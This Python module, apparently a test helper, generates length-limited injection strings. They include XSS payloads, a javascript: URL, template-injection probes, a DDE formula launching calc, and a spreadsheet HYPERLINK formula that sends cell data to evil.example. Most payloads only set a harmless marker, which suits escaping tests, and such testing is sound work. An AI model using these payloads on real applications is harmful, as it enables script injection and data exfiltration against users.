"""Texts that would run, load, or reckon something if they were taken for more than text."""

import itertools
from collections.abc import Iterator

MARK = "window.ran="  # what every script in them would set
_FIRST = f"\"'><svg onload={MARK}1>"  # out of an attribute, and into an element: fits 40 characters
_OTHERS = (
    f"<script>{MARK}2</script>",
    f"<img src=x onerror={MARK}3>",
    f"</textarea></style></title></pre><script>{MARK}4</script>",
    f'<a href="javascript:{MARK}5">x</a>[x](javascript:{MARK}5)',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "{{7*7}}{% debug %}${7*7}<%= 7*7 %>",
    f'<iframe srcdoc="<script>parent.{MARK}6</script>"></iframe>',
    f'<div hx-get="/no" hx-trigger="load" hx-on:click="{MARK}7">',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "]]><!--",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
)
_ADDRESS = f"javascript:{MARK}8//"


class Payloads:
    """What stands in a text of at most so many characters: always something that breaks out of an
    attribute, then as much of the rest as fits, each text beginning elsewhere in it."""

    def __init__(self) -> None:
        self._next = itertools.count()

    def __call__(self, limit: int) -> str:
        start = next(self._next)
        said = _FIRST
        if limit >= 200 and start % 2:  # where an address is wanted, it is one that runs
            said = _ADDRESS + said
        for piece in self._from(start):
            if len(said) + len(piece) + 1 <= limit:
                said = (
                    f"{piece} {said}" if piece[0] in "=@" and start % 3 == 0 else f"{said} {piece}"
                )
        assert MARK in said
        assert len(said) <= limit
        return said

    @staticmethod
    def _from(start: int) -> Iterator[str]:
        begin = start % len(_OTHERS)
        yield from (*_OTHERS[begin:], *_OTHERS[:begin])
